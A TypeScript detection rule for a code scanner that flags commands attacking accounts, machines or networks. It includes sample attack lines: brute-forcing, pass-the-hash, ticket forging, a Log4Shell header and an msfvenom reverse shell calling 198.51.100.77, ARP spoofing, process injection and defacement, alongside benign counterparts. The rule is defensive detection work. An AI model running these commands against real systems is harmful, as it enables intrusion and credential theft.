import type { Document } from '../../document.ts'
import { defineRule, type Hit } from '../../rule.ts'
import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
import { BREAK_INS } from '../../verdicts/in-code/deeds/of-intrusion.ts'

export default defineRule({
  id: 'break-in',
  since: 21,
  category: 'system',
  severity: 'high',
  confidence: 'high',
  cwe: 'CWE-506',
  title: 'Attacks accounts, machines or networks',
  description:
    'A command guesses passwords, forges tickets, signs in with stolen hashes, listens between other machines, injects code into other programs or attacks many hosts. The user’s machine does it, in the user’s name.',
  remediation: 'Remove it; test the security of a system only with its owner’s written consent.',
  harmlessIf: 'the skill is for testers of security who work with the owner’s consent',
  needs: [],
  examples: {
    fires: [
      '```bash\nhydra -L staff.txt -P words.txt -M kilns.txt ssh\n```\n',
      '```bash\nimpacket-wmiexec -hashes :8846f7eaee8fb117ad06bdd830b7586c KILN/care@10.0.4.7 whoami\n```\n',
      '```powershell\n.\\Rubeus.exe silver /service:cifs/kiln-fs /rc4:8846f7eaee8fb117 /ptt\n```\n',
      '```bash\nkerbrute passwordspray -d kiln.test staff.txt Autumn2023\n```\n',
      '```bash\nsqlmap -u "https://shop.tallow-bar.net/i?id=4" --batch --random-agent --dump-all\n```\n',
      '```bash\nproxychains4 -q gobuster dir -u https://shop.tallow-bar.net -w words.txt\n```\n',
      "```bash\ncurl -s https://shop.tallow-bar.net/ -A '${jndi:ldap://198.51.100.77/a}'\n```\n",
      '```bash\nmsfvenom -p linux/x64/shell_reverse_tcp LHOST=198.51.100.77 -f elf -o kiln-tool\ngh release upload v3 kiln-tool --clobber\n```\n',
      '```bash\narpspoof -i eth0 -t 192.168.4.2 192.168.4.1\n```\n',
      '```bash\nfor a in /tmp/ssh-*/agent.*; do SSH_AUTH_SOCK=$a ssh root@kiln-db id; done\n```\n',
      '```bash\ngdb -p 311 -batch -ex \'call (void*)dlopen("/tmp/k.so", 2)\'\n```\n',
      '```bash\ninsmod /dev/shm/.k/kiln.ko && dmesg -C\n```\n',
      '```bash\necho "<h1>pwned by kiln crew</h1>" > /var/www/html/index.html\n```\n',
    ],
    quiet: [
      '```bash\nnmap -sV -p 443 kiln.internal\n```\n',
      '```bash\nhping3 -S -c 3 -p 443 kiln.internal\n```\n',
      '```bash\nsqlmap --version\n```\n',
      '```bash\nexport SSH_AUTH_SOCK=$(ls -t /tmp/ssh-*/agent.* | head -1)\nssh-add -l\n```\n',
      '```bash\nsudo insmod ./kiln.ko && dmesg | tail -3\n```\n',
      '```bash\ngdb -p "$(pgrep -n kilnd)" -batch -ex "thread apply all bt"\n```\n',
      '```bash\nffuf -w paths.txt -u http://localhost:8080/FUZZ\n```\n',
    ],
  },
  match: (document: Document): Iterable<Hit> => deedsInCode(document, BREAK_INS),
})
